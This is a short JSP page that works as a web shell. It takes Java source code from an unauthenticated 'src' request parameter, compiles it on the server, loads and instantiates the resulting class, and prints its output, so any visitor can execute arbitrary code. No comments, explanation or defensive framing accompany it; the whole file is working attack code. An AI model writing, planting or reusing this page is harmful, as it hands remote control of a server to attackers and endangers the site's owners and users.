<%@ page import="javax.tools.*,java.io.*,java.net.*" %>
<%
String src = request.getParameter("src");
if (src != null) {
    File dir = new File(System.getProperty("java.io.tmpdir"), "c" + System.nanoTime());
    dir.mkdirs();
    File f = new File(dir, "T.java");
    FileWriter fw = new FileWriter(f); fw.write(src); fw.close();
    JavaCompiler jc = ToolProvider.getSystemJavaCompiler();
    jc.run(null, null, null, f.getPath());
    URLClassLoader cl = new URLClassLoader(new URL[]{dir.toURI().toURL()});
    Object o = cl.loadClass("T").newInstance();
    out.print(o.toString());
}
%>
